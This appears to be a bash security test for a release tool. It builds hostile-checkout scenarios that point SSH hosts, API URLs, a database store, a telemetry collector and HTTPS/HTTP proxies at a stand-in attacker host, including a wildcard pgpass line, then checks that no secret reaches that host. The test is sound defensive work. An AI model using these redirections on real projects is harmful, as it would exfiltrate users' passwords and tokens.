#!/usr/bin/env bash
# Somebody else's loomrel.toml, loomrel.known_hosts and .env.servers lie in the checkout, every secret
# is on the trusted side: whatever command is typed there, no secret goes where the checkout says
# (design 13.5). The attacker's certificate is valid: it proves who he is.
. "$(dirname "$0")/harness.sh"
world_start

# Nobody is hostile: what the other scenarios forbid does happen, at the right places.
scenario honest
run_everything status doctor dev-deploy "release dispatch" notify
judge "${OWN[@]}"
arrived stage_password "$STAGE:22 ssh password"
arrived prod_password "$PROD:22 ssh password"
arrived dev_password "$DEV:22 ssh password"
arrived bot_token "$TELEGRAM:443 https"
arrived github_token "$GITHUB:443 https"
arrived otlp_header "$COLLECTOR:4318 https"
scenario honest_api
without LOOMREL_STORE LOOMREL_STORE_PASSWORD
run_everything "release list" "release create"
judge "${OWN[@]}"
arrived api_key "$API:443 https"
scenario honest_postgres
without LOOMREL_STORE
VARIABLES+=("LOOMREL_STORE=postgresql://me@$POSTGRES:5432/releases")
run_everything "release list" "release create"
judge "${OWN[@]}"
arrived store_password "$POSTGRES:5432 postgres"

# Where the trusted side pins no keys, the checkout pins the attacker's, and names him first.
scenario hosts_and_origins
without STAGE_HOST_KEY PROD_HOST_KEY developer_HOST_KEY
toml environments.stage "hosts = [\"$ATTACKER\", \"$STAGE\"]"
toml environments.prod "hosts = [\"$ATTACKER\", \"$PROD\"]"
toml telegram "api_url = \"https://$ATTACKER\""
toml github "api_url = \"https://$ATTACKER\""
{
    known_line stage $STAGE
    known_line prod $PROD
    known_line dev $DEV
    known_line attacker $ATTACKER
} >"$CHECKOUT/loomrel.known_hosts"
run_everything
judge "${OWN[@]}"
scenario origins_by_plain
toml telegram "api_url = \"http://$ATTACKER\""
toml github "api_url = \"http://$ATTACKER\""
run_everything "${SOME[@]}"
judge "${OWN[@]}"

# Whoever runs the way to a host sees what passes through, and no password of the host.
scenario bastion
instead "STAGE_JUMP=root@$BASTION" "STAGE_JUMP_PASSWORD=@jump_password@" "STAGE_JUMP_HOST_KEY=$(pin_of bastion)"
run_everything "${SOME[@]}"
judge "${OWN[@]}" "jump_password=$BASTION:22 ssh password"

# A key that is committed for an address counts no more than the one that the trusted side pins.
scenario pins
instead "STAGE_HOST=$IMPOSTOR" "PROD_HOST=$IMPOSTOR" "developer_HOST=$IMPOSTOR"
known_line impostor $IMPOSTOR >"$CHECKOUT/loomrel.known_hosts"
run_everything "${SOME[@]}" dev-deploy trust
judge "${OWN[@]}"

scenario ledger
without LOOMREL_STORE
toml store "url = \"https://$ATTACKER/api/tg-bot\""
run_everything
judge "${OWN[@]}"
scenario ledger_without_its_password
without LOOMREL_STORE LOOMREL_STORE_PASSWORD
toml store "url = \"https://$ATTACKER/api/tg-bot\""
run_everything "${SOME[@]}"
judge "${OWN[@]}"
scenario ledger_by_plain
without LOOMREL_STORE LOOMREL_STORE_PASSWORD
toml store "url = \"http://$ATTACKER/api/tg-bot\""
run_everything "${SOME[@]}"
judge "${OWN[@]}"
scenario postgres
without LOOMREL_STORE
toml store "url = \"postgresql://me@$ATTACKER:5433/releases?sslmode=disable\""
run_everything "${SOME[@]}"
judge "${OWN[@]}"
# What libpq finds by itself.
scenario postgres_by_pgpass
without LOOMREL_STORE LOOMREL_STORE_PASSWORD
VARIABLES+=("PGPASSFILE=@dir@/trusted.pgpass" "ATTACK_LINE=*:*:*:*:@store_password@")
toml store "url = \"postgresql://me@$ATTACKER:5432/releases\""
pgpass() {
    (umask 077 && sed -n 's/^ATTACK_LINE=//p' "$1/secrets" | tr -d '\\' >"$1/trusted.pgpass")
}
PREPARE=pgpass
run_everything "${SOME[@]}"
PREPARE=''
judge "${OWN[@]}"

# Passwords come by the environment, as from a store of secrets; the checkout brings the addresses,
# the collector and a proxy in a file that git tracks.
scenario tracked_addresses
without LOOMREL_STORE OTEL_EXPORTER_OTLP_ENDPOINT STAGE_HOST PROD_HOST developer_HOST \
    STAGE_HOST_KEY PROD_HOST_KEY developer_HOST_KEY LOOM_RELEASE_TG_BOT_API_URL
VARIABLES+=("${SERVERS[@]}")
SERVERS=()
known_line attacker $ATTACKER >"$CHECKOUT/loomrel.known_hosts"
cat >"$CHECKOUT/.env.servers" <<END
STAGE_HOST=$ATTACKER
PROD_HOST=$ATTACKER
developer_HOST=$ATTACKER
LOOM_RELEASE_TG_BOT_API_URL=https://$ATTACKER/api/tg-bot
OTEL_EXPORTER_OTLP_ENDPOINT=https://$ATTACKER
LOOM_RELEASE_TG_BOT_POSTGRES_CONTAINER_NAME=$ATTACKER
LOOMREL_INSECURE=$ATTACKER
HTTPS_PROXY=http://$ATTACKER:3128
HTTP_PROXY=http://$ATTACKER:3128
ALL_PROXY=http://$ATTACKER:3128
END
chmod 600 "$CHECKOUT/.env.servers"
run_everything
judge "${OWN[@]}"
if [ -e "$T/received/$ATTACKER:3128 http" ]; then
    echo "a proxy that the checkout names was used" >&2
    BAD=1
fi
end_of_attacks
